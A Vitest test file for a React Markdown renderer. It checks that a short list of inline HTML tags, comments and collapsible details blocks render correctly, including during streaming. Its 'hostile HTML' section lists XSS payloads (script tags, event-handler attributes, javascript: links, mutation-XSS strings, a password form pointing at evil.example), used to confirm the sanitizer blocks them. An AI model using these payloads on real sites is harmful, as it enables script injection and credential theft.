// @vitest-environment happy-dom
import { MantineProvider } from '@mantine/core';
import { cleanup, render } from '@testing-library/react';
import fc from 'fast-check';
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { Markdown } from '../../../../web/src/content/markdown.tsx';
import { PrintContext, StaticContext } from '../../../../web/src/content/static-context.ts';
import { splitBlocks } from '../../../../web/src/content/split-blocks.ts';
import { startEnglish } from '../start-english.ts';

// KaTeX refuses pages without a doctype, which a test's page lacks; it looks when it is imported.
vi.hoisted(() => Object.defineProperty(document, 'compatMode', { value: 'CSS1Compat' }));

beforeAll(startEnglish);
afterEach(cleanup);

function draw(text: string, streaming = false): Element {
  const { container } = render(<Markdown text={text} streaming={streaming} />, { wrapper: MantineProvider });
  const page = container.querySelector('[data-markdown]') ?? container;
  for (const control of page.querySelectorAll('[data-control]')) control.remove();
  return page;
}

/** The elements of these names, each with the text in it. */
function marked(page: Element, names: string): string[] {
  return [...page.querySelectorAll(names)].map(
    ({ tagName, textContent }) => `${tagName.toLowerCase()}:${textContent.trim()}`,
  );
}

const WORDS = 'sub, sup, kbd, mark, u, s, b, i, strong, em, del';

describe('a tag of the short list', () => {
  it('marks words in paragraphs, headings, lists, links and bold text', () => {
    const page = draw(
      '# H<sub>2</sub>O\n\nx<sup>2</sup> <kbd>Ctrl</kbd>+<KBD>C</kbd>, <mark>m</mark> <u>u</u> <s>s</s> <b>b</b> <i>i</i>\n\n- a<sub>1</sub>\n\n[a<sup>3</sup>](https://example.com) **c<sub>4 </sub>**',
    );
    expect(marked(page, WORDS)).toEqual([
      'sub:2',
      'sup:2',
      'kbd:Ctrl',
      'kbd:C',
      'mark:m',
      'u:u',
      's:s',
      'b:b',
      'i:i',
      'sub:1',
      'sup:3',
      'strong:c4',
      'sub:4',
    ]);
    expect(page.textContent).not.toContain('<');
  });

  it('breaks lines in words and in cells', () => {
    const page = draw('a<br>b<BR/>c\n\n<br>\n**d**\n\n| a<br>b | c |\n|---|---|\n| x<br />y | <sup>z</sup> |');
    expect(page.querySelectorAll('p br')).toHaveLength(3);
    expect(marked(page, 'strong')).toEqual(['strong:d']);
    expect(page.querySelectorAll('th br, td br')).toHaveLength(2);
    expect(marked(page, 'td sup')).toEqual(['sup:z']);
  });

  it('marks the Markdown that follows when it is alone on its line', () => {
    expect(marked(draw('<b>\nwords and *more*\n</b>'), WORDS)).toEqual(['b:words and more', 'em:more']);
  });

  it.each([
    '`<sub>x</sub>`',
    '```html\n<details>\n<b>x</b><br><!-- c -->\n</details>\n```',
    '    <kbd>x</kbd>\n    <!-- c -->',
    '- a\n\n      <details>\n      <br>',
  ])('is text in code: %j', (text) => {
    const page = draw(text);
    expect(page.querySelector(`details, br, ${WORDS}`)).toBeNull();
    expect(page.querySelector('code')?.textContent).toBe(
      text
        .replace(/^- a\n\n|```(?:html)?\n?|^`|`$/g, '')
        .replace(/^ {4,6}/gm, '')
        .trimEnd(),
    );
  });

  it.each([
    'a <b>without an end',
    'an end</b> without a beginning',
    '**a <sub>b** c</sub>',
    '<span>x</span>',
    '<b class="x">b</b>',
    '<kbd style="position:fixed">x</kbd>',
    '\\<b>x\\</b>',
    'The <details> element and its </details> and </summary>',
  ])('that has no pair, is not on the list or has attributes is text: %j', (text) => {
    const page = draw(text);
    expect(page.querySelector('sub, kbd, b, span, details, summary')).toBeNull();
    expect(page.textContent).toBe(text.replace(/\\|\*\*/g, ''));
  });

  it('is closed at the end of a text that is being written, and never shown in part', () => {
    const text = 'H<sub>2</sub>O, *a <b>bold</b>* <kbd>Ctrl</kbd> | - <mark>x';
    for (let end = 1; end <= text.length; end += 1)
      expect(draw(text.slice(0, end), true).textContent, text.slice(0, end)).not.toMatch(/<.|>/);
    expect(marked(draw('H<sub>2', true), 'sub')).toEqual(['sub:2']);
    cleanup();
    expect(marked(draw('- a <b>x\n- b <i>c', true), 'b, i')).toEqual(['i:c']);
  });
});

describe('a comment', () => {
  it.each([
    ['a <!-- hidden --> b', 'a  b'],
    ['a <!-- hid\nden --> b', 'a  b'],
    ['<!-- hidden -->', ''],
    ['<!-- hid\n\nden -->\n\nb', 'b'],
    ['a\n<!-- hidden -->\nb', 'ab'],
    ['<div>\n<!-- hidden -->x\n</div>', '<div>x</div>'],
  ])('is not shown: %j', (text, shown) => {
    expect(draw(text).textContent.replaceAll('\n', '')).toBe(shown);
  });

  it('is not shown while it is being written', () => {
    for (const text of ['a <!-- hid', 'a <!', 'a <!-- *hid* den', '<!-- hid\n\nden', '- a <!-- hid']) {
      expect(draw(text, true).textContent.trim().replace(/^a$/, ''), text).toBe('');
      cleanup();
    }
  });
});

/** What is folded, without its summary, and what is not. */
function folds(page: Element): { summary: (string | undefined)[]; inner: (string | undefined)[]; outer: string } {
  const all = [...page.querySelectorAll('details')];
  const summary = all.map((one) => one.querySelector(':scope > summary')?.textContent);
  const copy = page.cloneNode(true) as Element;
  for (const one of copy.querySelectorAll('summary')) one.remove();
  const inner = [...copy.querySelectorAll('details')].map(({ textContent }) => textContent.replace(/\s+/g, ' ').trim());
  for (const one of copy.querySelectorAll('details')) one.remove();
  return { summary, inner, outer: copy.textContent.replace(/\s+/g, ' ').trim() };
}

describe('details', () => {
  it.each([
    ['<details>\n<summary>More</summary>\n\nInside.\n\n</details>', ['More'], ['Inside.'], ''],
    ['<details><summary>**More** `x`</summary>Text **b**</details>\n\nAfter', ['More x'], ['Text b'], 'After'],
    [
      'Intro:\n<details>\n<summary>S</summary>\nText\n- one\n- two\n</details>\nafter',
      ['S'],
      ['Text one two'],
      'Intro:after',
    ],
    [
      '- a\n<details><summary>S</summary>\n\n```html\n</details>\n```\n\nx\n\n</details>\n\nb',
      ['S'],
      ['</details>x'],
      'a b',
    ],
    ['1. a\n\n   <details>\n   <summary>S</summary>\n\n   x\n\n   </details>\n\n2. b', ['S'], ['x'], 'a b'],
    ['> <details>\n> <summary>S</summary>\n>\n> x\n> </details>\n\nb', ['S'], ['x'], 'b'],
    ['<details>\n<summary>S</summary>\n```js\n\nx\n```\n</details>\nb', ['S'], ['x'], 'b'],
    ['<details>\n\nno summary\n\n</details>', [undefined], ['no summary'], ''],
    ['<details>\n<summary>\nS\n</summary>\n\nx </details> b', ['\nS\n'], ['x'], 'b'],
    ['<details>\n<summary>S</summary>\n\nnever\n\nclosed', ['S'], ['neverclosed'], ''],
    ['<DETAILS >\n<Summary>S</SUMMARY>\n\n| a |\n|---|\n| x |\n\n</Details >', ['S'], ['ax'], ''],
  ])('fold what is in them: %j', (text, summary, inner, outer) => {
    expect(folds(draw(text))).toEqual({ summary, inner, outer });
  });

  it('may be in each other', () => {
    const text =
      '<details>\n<summary>A</summary>\n\n<details>\n<summary>B</summary>\n\nx\n\n</details>\n\ny\n\n</details>\n\nz';
    const page = draw(text);
    expect(page.querySelector('details details > p')?.textContent).toBe('x');
    expect(page.querySelector('details > details + p')?.textContent).toBe('y');
    expect(folds(page).outer).toBe('z');
  });

  it('keep the blocks in them however long they are', () => {
    const body = Array.from({ length: 400 }, (_, index) => `Paragraph **${index}** with some words`).join('\n\n');
    const page = draw(`<details>\n<summary>*Long*</summary>\n\n${body}\n\n</details>\n\nafter`);
    expect(page.querySelectorAll('details')).toHaveLength(1);
    expect(page.querySelector('details > summary em')?.textContent).toBe('Long');
    expect(folds(page).outer).toBe('after');
    expect(page.querySelector('details')?.textContent).toContain('399');
  });

  it('are one block from the first piece to the last, and their summary is shown as it arrives', () => {
    const text = '<details>\n<summary>More of it</summary>\n\nInside\n\n- a\n- b\n</details>\n\nafter';
    for (let end = 10; end <= text.length; end += 1) {
      const page = draw(text.slice(0, end), true);
      expect(page.querySelectorAll('details'), text.slice(0, end)).toHaveLength(1);
      expect(page.textContent).not.toMatch(/<.|>/);
      cleanup();
    }
    const blocks = [2, 40, 60, text.length].map((end) => splitBlocks(null, text.slice(0, end)).blocks.length);
    expect(blocks).toEqual([1, 1, 1, 2]);
  });

  it('are unfolded where a message asks for it, on paper and in pictures', () => {
    const text = '<details>\n<summary>S</summary>\n\nx\n\n</details>';
    expect(draw(text).querySelector('details')?.open).toBe(false);
    cleanup();
    expect(draw(text.replace('>', ' open>')).querySelector('details')?.open).toBe(true);
    cleanup();
    for (const Context of [PrintContext, StaticContext]) {
      const { container } = render(
        <Context value>
          <Markdown text={text} streaming={false} />
        </Context>,
        { wrapper: MantineProvider },
      );
      expect(container.querySelector('details')?.open).toBe(true);
      cleanup();
    }
  });
});

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<details open ontoggle=alert(1)>\n\nx\n\n</details>',
  '<details/open/ontoggle=alert(1)>',
  '<details\nopen\nontoggle=alert(1)>x</details>',
  '<b onclick="alert(1)">x</b>',
  '<kbd\nonmouseover=alert(1)>x</kbd>',
  '<sub/onclick=alert(1)>x</sub>',
  '<br onload=alert(1)>',
  '<mark style="position:fixed;inset:0">x</mark>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<b><script>alert(1)</script></b>',
  '<summary><img src=x onerror=alert(1)></summary>',
  '<details><summary><svg onload=alert(1)></summary><style>*{}</style></details>',
  '<sub>[x](javascript:alert(1))</sub>',
  '<form action=//evil.example><input type=password></form>',
  '<base href=//evil.example>',
  '<b id=x name=y class=z>x</b>',
];
const ALLOWED = new Set(
  `a b blockquote br button cite code del details div em h1 h2 h3 hr i kbd li mark ol p pre s section span strong sub summary sup table tbody td th thead tr u ul`.split(
    ' ',
  ),
);

describe('hostile HTML', () => {
  it.each(ATTACKS)('makes no element and no attribute: %j', (text) => expectHarmless(draw(text)));

  it('makes no element and no attribute, in any mixture, while it is written and after', () => {
    const pieces = [
      '<b>',
      '</b>',
      '<details>',
      '\n',
      '</details>',
      '<summary>',
      '</summary>',
      '<br>',
      '- ',
      '> ',
      '`',
      '**',
      '| ',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...ATTACKS, ...pieces), { maxLength: 12 }), fc.boolean(), (parts, open) => {
        expectHarmless(draw(parts.join(''), open));
        cleanup();
      }),
      { numRuns: 150 },
    );
  });

  it('does not overflow the stack', () => {
    for (const tag of ['b', 'details']) {
      const page = draw(`<${tag}>\n`.repeat(2_000) + `</${tag}>\n`.repeat(2_000));
      expect(page.textContent).toContain(`<${tag}>`);
      cleanup();
    }
  });
});

function expectHarmless(page: Element): void {
  for (const element of page.querySelectorAll('*')) {
    expect(ALLOWED).toContain(element.tagName.toLowerCase());
    const names = element.getAttributeNames().filter((name) => /^(?:on|style|src|action|id$|name$)/.test(name));
    expect(names).toEqual([]);
    expect(element.getAttribute('href') ?? '').not.toContain('javascript');
  }
}
